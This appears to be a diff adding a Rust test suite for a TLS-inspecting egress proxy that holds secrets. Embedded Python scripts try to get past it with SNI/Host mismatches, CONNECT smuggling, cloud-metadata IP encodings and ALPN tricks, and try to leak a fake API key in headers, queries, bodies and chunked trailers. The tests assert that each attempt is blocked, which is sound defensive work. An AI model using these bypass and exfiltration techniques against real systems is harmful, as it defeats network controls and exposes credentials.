@@ -1,0 +1,250 @@
+//! Ways around the gate within TLS that it looks into: names that disagree, protocols in protocols, and
+//! answers that tell what a program is not to know.
+
+use crate::support::{Outcome, RawOrigin, Sandbox};
+use bailiwick_event::{Act, Verdict};
+
+const SECRET: &str = "sk-test-AbCd/EfGhIj+KlMnOpQrStUvWx0123456789";
+/// What is not to be found in anything that a program reads.
+const TOLD: &str = "AbCd/EfGhIj";
+
+/// How the attempts connect; each prints what it got.
+const ATTEMPT: &str = "import base64, os, socket, ssl, sys, urllib.parse
+KEY = os.environ.get('API_KEY', '')
+def tls(to, name, alpn=('http/1.1',), over=None):
+    context = ssl.create_default_context()
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    if alpn: context.set_alpn_protocols(list(alpn))
+    below = over or socket.create_connection((to, 443), timeout=10)
+    return context.wrap_socket(below, server_hostname=name)
+def say(stream, data):
+    got = b''
+    try:
+        stream.sendall(data)
+        stream.settimeout(3)
+        while part := stream.recv(65536): got += part
+    except OSError as error: got += b' ' + type(error).__name__.encode()
+    print(got.decode('latin1'), flush=True)
+def get(host, path, more='', method='GET'):
+    return f'{method} {path} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n{more}\\r\\n'.encode()
+";
+
+/// What the server saw was allowed, in so many words.
+#[track_caller]
+fn nothing_undecided(origin: &RawOrigin, outcome: &Outcome) {
+    let allowed: Vec<_> = outcome
+        .events()
+        .iter()
+        .filter(|event| event.decision.verdict == Verdict::Allow)
+        .filter_map(|event| match &event.act {
+            Act::Http { method, path, .. } => Some(format!("{method} {path}")),
+            _ => None,
+        })
+        .collect();
+    for request in origin.requests() {
+        assert!(
+            allowed.contains(&request),
+            "{request} was not decided: {allowed:?}"
+        );
+    }
+}
+
+fn sandbox(origin: &RawOrigin) -> Sandbox {
+    let port = origin.secure;
+    origin
+        .sandbox(
+            &format!("\"a.test\" = \"127.0.0.1:{port}\"\n\"b.test\" = \"127.0.0.1:{port}\""),
+            "[[secrets]]\nname = \"API_KEY\"\nfrom = { env = \"OUTER_KEY\" }\n\
+             hosts = [\"a.test\"]\nin = [\"header\", \"query\", \"body\"]\n\
+             [[rules]]\nid = \"never\"\non = \"http.request\"\naction = \"deny\"\n\
+             when = 'http.request.path.startsWith(\"/no/\")'\n",
+        )
+        .host_env("OUTER_KEY", SECRET)
+}
+
+#[track_caller]
+fn attempt(origin: &RawOrigin, script: &str) -> Outcome {
+    let outcome = sandbox(origin).exec(["python3", "-c", &format!("{ATTEMPT}{script}")]);
+    nothing_undecided(origin, &outcome);
+    outcome
+}
+
+const NAMES: [&str; 2] = ["a.test", "b.test"];
+
+#[test]
+fn a_name_that_is_not_allowed_is_reached_by_no_mixture_of_names() {
+    let origin = RawOrigin::start(&["a.test", "b.test", "c.test"], &[]);
+    for script in [
+        // In the hello, in the request, in both, and in a target.
+        "say(tls('a.test', 'c.test'), get('c.test', '/x'))",
+        "say(tls('a.test', 'a.test'), get('c.test', '/x'))",
+        "say(tls('a.test', 'A.TEST'), get('c.test', '/x'))",
+        "say(tls('a.test', 'a.test'), get('a.test', 'https://c.test/x'))",
+        "say(tls('a.test', 'a.test'), get('a.test, c.test', '/x'))",
+        "say(tls('a.test', 'a.test'), get('a.test', '/x', 'Host: c.test\\r\\n'))",
+        "say(tls('a.test', None), get('c.test', '/x'))",
+        "say(tls('a.test', '127.0.0.1'), get('127.0.0.1', '/x'))",
+        "say(tls('a.test', 'a.test'), get('127.0.0.1', '/x'))",
+        "say(tls('a.test', 'a.test'), get('169.254.169.254', '/x'))",
+        "say(tls('a.test', 'a.test'), get('[::ffff:169.254.169.254]', '/x'))",
+        "say(tls('a.test', 'a.test'), get('2852039166', '/x'))",
+        "say(tls('a.test', 'a.test'), b'CONNECT c.test:443 HTTP/1.1\\r\\nHost: c.test:443\\r\\n\\r\\n')",
+    ] {
+        let tried = format!("try: {script}\nexcept OSError as e: print(type(e).__name__)");
+        let outcome = attempt(&origin, &tried);
+        outcome.success().stdout_lacks("200 OK");
+        assert_eq!(origin.requests(), Vec::<String>::new(), "{script}");
+    }
+}
+
+#[test]
+fn another_protocol_than_was_agreed_on_carries_no_request() {
+    let origin = RawOrigin::start(&NAMES, &[]);
+    for script in [
+        "say(tls('a.test', 'a.test'), b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')",
+        "say(tls('a.test', 'a.test', ('h2',)), get('a.test', '/no/x'))",
+        "say(tls('a.test', 'a.test', ('strange', 'x' * 200)), get('a.test', '/no/x'))",
+        "say(tls('a.test', 'a.test', ()), get('a.test', '/no/x'))",
+        // In the clear at a port where TLS is spoken, and TLS at one where it is not.
+        "say(socket.create_connection(('a.test', 443)), get('a.test', '/no/x'))",
+    ] {
+        let tried = format!("try: {script}\nexcept OSError as e: print(type(e).__name__)");
+        attempt(&origin, &tried).success().stdout_lacks("200 OK");
+        let seen = origin.requests();
+        assert!(
+            !seen.iter().any(|r| r.contains("/no/")),
+            "{script}: {seen:?}"
+        );
+    }
+}
+
+#[test]
+fn a_second_request_on_one_connection_is_decided_anew() {
+    let origin = RawOrigin::start(&NAMES, &[]);
+    let outcome = attempt(
+        &origin,
+        "import http.client
+c = http.client.HTTPSConnection('a.test')
+for path, host in [('/one', 'a.test'), ('/no/x', 'a.test'), ('/two', 'c.test'), ('/three', 'b.test')]:
+    c.request('GET', path, headers={'Host': host})
+    r = c.getresponse(); r.read(); print(r.status)",
+    );
+    outcome.success().stdout_is("200\n403\n403\n200\n");
+    assert_eq!(origin.requests(), ["GET /one", "GET /three"]);
+}
+
+#[test]
+fn a_secret_goes_to_no_other_server_behind_the_same_certificate() {
+    let origin = RawOrigin::start(&NAMES, &[]);
+    for script in [
+        "say(tls('a.test', 'a.test'), get('b.test', '/x', f'X-Key: {KEY}\\r\\n'))",
+        "say(tls('a.test', 'a.test'), get('b.test', f'/x?key={KEY}'))",
+        "say(tls('b.test', 'b.test'), get('a.test', '/x', f'X-Key: {KEY}\\r\\n'))",
+        "say(tls('a.test', 'b.test'), get('a.test', '/x', f'X-Key: {KEY}\\r\\n'))",
+        "say(tls('a.test', 'a.test'), get('b.test', '/x', f'Content-Length: {len(KEY)}\\r\\n', 'POST') + KEY.encode())",
+        "say(tls('b.test', 'b.test'), get('b.test', '/x', 'Transfer-Encoding: chunked\\r\\nTrailer: x-key\\r\\n', \
+         'POST') + f'1\\r\\na\\r\\n0\\r\\nX-Key: {KEY}\\r\\n\\r\\n'.encode())",
+    ] {
+        let outcome = attempt(&origin, script);
+        outcome.success().refused_by("secrets.API_KEY");
+        outcome.stdout_has("403").stdout_lacks("200 OK");
+    }
+}
+
+#[test]
+fn an_answer_tells_a_secret_in_no_part_and_in_no_form_in_which_the_gate_sends_it() {
+    let percent = SECRET.replace('/', "%2F").replace('+', "%2B");
+    let json = SECRET.replace('/', "\\/");
+    // `echo -n me:SECRET | base64`
+    let basic = "bWU6c2stdGVzdC1BYkNkL0VmR2hJaitLbE1uT3BRclN0VXZXeDAxMjM0NTY3ODk=";
+    let head = |more: &str, body: &str| {
+        let length = body.len();
+        format!("HTTP/1.1 200 OK\r\n{more}Content-Length: {length}\r\n\r\n{body}")
+    };
+    let chunked = |body: &str| format!("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n{body}");
+    let answers = [
+        ("header", head(&format!("X: {SECRET}\r\n"), "")),
+        (
+            "location",
+            head(&format!("Location: https://b.test/?k={percent}\r\n"), ""),
+        ),
+        (
+            "reason",
+            format!("HTTP/1.1 200 {SECRET}\r\nContent-Length: 0\r\n\r\n"),
+        ),
+        (
+            "trailer",
+            chunked(&format!("Trailer: x-k\r\n\r\n0\r\nX-K: {SECRET}\r\n\r\n")),
+        ),
+        ("plain", head("", SECRET)),
+        ("percent", head("", &percent)),
+        ("json", head("", &json)),
+        ("basic", head("", basic)),
+        (
+            "chunks",
+            chunked(&format!(
+                "\r\n9\r\n{}\r\n23\r\n{}\r\n0\r\n\r\n",
+                &SECRET[..9],
+                &SECRET[9..]
+            )),
+        ),
+        (
+            "coded",
+            "HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n1\r\nx\r\n0\r\n\r\n".into(),
+        ),
+        (
+            "early",
+            format!(
+                "HTTP/1.1 103 Early\r\nLink: <{SECRET}>\r\n\r\n{}",
+                head("", "ok")
+            ),
+        ),
+        (
+            "upgrade",
+            format!(
+                "HTTP/1.1 101 {SECRET}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
+                 Sec-WebSocket-Protocol: {SECRET}\r\n\r\n\u{1}{SECRET}"
+            ),
+        ),
+    ];
+    let files: Vec<_> = answers.iter().map(|(n, a)| (*n, a.as_bytes())).collect();
+    let origin = RawOrigin::start(&NAMES, &files);
+    let names: Vec<_> = answers.iter().map(|(name, _)| *name).collect();
+    let outcome = attempt(
+        &origin,
+        &format!(
+            "for name in {names:?}:
+    more = 'TE: trailers\\r\\n'
+    if name == 'upgrade': more = 'Upgrade: websocket\\r\\nSec-WebSocket-Extensions: permessage-deflate\\r\\n'
+    data = get('a.test', '/answer/' + name, more)
+    if name == 'upgrade': data = data.replace(b'close', b'upgrade')
+    print(name); say(tls('a.test', 'a.test'), data)"
+        ),
+    );
+    outcome.success();
+    let said = outcome.stdout();
+    for told in [TOLD, "AbCd%2FEfGhIj", "AbCd\\/EfGhIj", "BYkNkL0VmR2hJa"] {
+        assert!(!said.contains(told), "{told} in {said}");
+    }
+    assert_eq!(said.matches("101 ").count(), 1, "{said}");
+    assert!(said.contains("502") && said.contains("chunked"), "{said}");
+    let rows = format!("{:?}", outcome.events());
+    assert!(!rows.contains(TOLD), "{rows}");
+}
+
+#[test]
+fn connections_that_nobody_uses_are_not_kept_without_end() {
+    let origin = RawOrigin::start(&NAMES, &[]);
+    let outcome = attempt(
+        &origin,
+        "for n in range(200):
+    with tls('a.test', 'a.test', ('http/1.1', f'x{n}')) as s:
+        s.sendall(b'GET /x HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n'); s.recv(1000)
+s = tls('a.test', 'a.test')
+s.sendall(get('a.test', '/open')); print(s.recv(1000).split()[-1].decode())",
+    );
+    outcome.success();
+    let open: usize = outcome.stdout().trim().parse().unwrap();
+    assert!((2..=140).contains(&open), "{open}");
+}
